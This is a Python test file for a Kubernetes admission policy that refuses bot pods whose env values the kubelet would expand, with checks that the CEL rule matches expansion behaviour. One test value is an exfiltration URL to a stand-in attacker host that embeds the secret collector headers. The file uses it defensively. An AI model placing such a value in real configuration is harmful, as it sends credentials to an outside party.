"""In the `pods` mode the admission policy refuses a bot pod whose plain env value the kubelet would expand:
a `$(NAME)` reads another variable, the bots' Secret's keys among them (the collector's headers), so a leaked
dispatcher token could send them to a host of its own in any value a bot dials. The dispatcher's own pods
(`pod_body` doubles every `$`) are admitted whatever their values hold. Judged by the policy's own CEL
(tests/infra/k8s/admission_cel.py), against the kubelet's rule (tests/fakes/kubelet_expansion.py)."""

from __future__ import annotations

import itertools
import json
from collections.abc import Callable, Iterator, Mapping
from typing import Any

import celpy
from celpy.adapter import json_to_cel

from stacks.tools.mocks import Run
from tests.fakes.kubelet_expansion import expand
from tests.infra.k8s.admission_cel import refusal
from tests.infra.k8s.test_agent_sandbox import body
from tests.infra.k8s.test_bot_pods_policy import DISPATCHER, container, created, dispatchers_pods, policy_of, up

EXPANSION = "a bot pod's plain env values read no other variable"
STOLEN = "https://evil.example/$(OTEL_EXPORTER_OTLP_HEADERS)"
TEXTS = ["$", "$$", "a$", "$a", "$(", "$)", "$()", "$(X", "$(X)", "$$(X)", "$$$(X)", "$$$$(X)",
         "x$(X)y$$(X)z", "$((X))", "$(X$(X))", STOLEN]


class Everything(Mapping[str, str]):
    """Every name defined: what a reference reads is never the text it was."""

    def __getitem__(self, name: str) -> str:
        return f"<{name}>"

    def __iter__(self) -> Iterator[str]:
        return iter(())

    def __len__(self) -> int:
        return 0


def test_a_value_that_reads_the_bots_keys_is_refused() -> None:
    run = up()
    for pod in dispatchers_pods(run):
        container(pod)["env"].append({"name": "MODEL_SERVICE_URL", "value": STOLEN})
        assert EXPANSION in str(refusal(policy_of(run), created(DISPATCHER, pod)))


def expansion_rule(run: Run) -> Callable[[dict[str, Any]], object]:
    """The policy's expansion check alone, on a pod."""
    (rule,) = [v["expression"] for v in policy_of(run)["validations"] if EXPANSION in v.get("message", "")]
    env = celpy.Environment()
    program = env.program(env.compile(rule))
    return lambda pod: program.evaluate({"object": json_to_cel(pod), "variables": json_to_cel({"bot_create": True})})


def test_the_dispatchers_pods_are_admitted_whatever_their_values_hold() -> None:
    """A session's values reach its pod's env only without a bot channel (VOICEFLEET_BODY: the stack always has one,
    and its policy refuses them by name, bot_env_allow.py); written by `pod_body`, none reads another variable."""
    run = up()
    body = {f"value_{index}": text for index, text in enumerate(TEXTS)}
    expanding = expansion_rule(run)
    for pod in dispatchers_pods(run, body=body, channel=False):
        assert expanding(pod) == celpy.celtypes.BoolType(True)
    (session, _) = dispatchers_pods(run, body=body, channel=False)
    (entry,) = [e for e in container(session)["env"] if e["name"] == "VOICEFLEET_BODY"]
    assert json.loads(expand(entry["value"], Everything())) == body


def test_a_trace_collector_with_a_dollar_is_admitted_as_the_dispatcher_writes_it() -> None:
    endpoint = "https://otlp.example.com/$(x)/$$"
    run = up(otelExporterOtlpEndpoint=endpoint)
    for pod in dispatchers_pods(run):
        assert refusal(policy_of(run), created(DISPATCHER, pod)) is None
        (entry,) = [e for e in container(pod)["env"] if e["name"] == "OTEL_EXPORTER_OTLP_ENDPOINT"]
        assert expand(entry["value"], Everything()) == endpoint


def test_the_policy_refuses_exactly_the_values_the_kubelet_expands() -> None:
    """Every text of `$`, `(`, `)` and a letter up to five long: refused when a reference in it would read a
    variable, admitted otherwise (a `$` doubled, an unclosed `$(`, a `$` elsewhere)."""
    (rule,) = [v["expression"] for v in policy_of(up())["validations"] if EXPANSION in v.get("message", "")]
    env = celpy.Environment()
    program = env.program(env.compile(rule))
    refused, expanded = [], []
    for size in range(6):
        for text in map("".join, itertools.product("$()a", repeat=size)):
            pod: dict[str, Any] = {"spec": {"containers": [{"name": "bot", "env": [{"name": "V", "value": text}]}]}}
            verdict = program.evaluate({"object": json_to_cel(pod),
                                        "variables": json_to_cel({"bot_create": True})})
            assert isinstance(verdict, celpy.celtypes.BoolType), (text, verdict)
            if not verdict:
                refused.append(text)
            if expand(text, Everything()) != expand(text, {}):
                expanded.append(text)
    assert refused == expanded and {"$(a)", "$$$()", "a$()"} <= set(refused) and "$$(a)" not in refused


def test_an_agent_sandbox_templates_values_reach_its_bots_as_given() -> None:
    """The SandboxTemplate's pod is `pod_body`'s too: the deployer's, so the policy does not hold it, but its
    values are written the same way and a pool bot gets them as the stack gives them."""
    endpoint = "https://otlp.example.com/$(x)/$$"
    run = up(k8sMode="agent-sandbox", k8sDeployer="ci-deployer@example-project.iam.gserviceaccount.com",
             otelExporterOtlpEndpoint=endpoint)
    templates = run.of_type("kubernetes:extensions.agents.x-k8s.io/v1beta1:SandboxTemplate")
    assert templates
    for template in templates:
        (bot,) = body(template)["spec"]["podTemplate"]["spec"]["containers"]
        (entry,) = [e for e in bot["env"] if e["name"] == "OTEL_EXPORTER_OTLP_ENDPOINT"]
        assert entry["value"] != endpoint and expand(entry["value"], Everything()) == endpoint
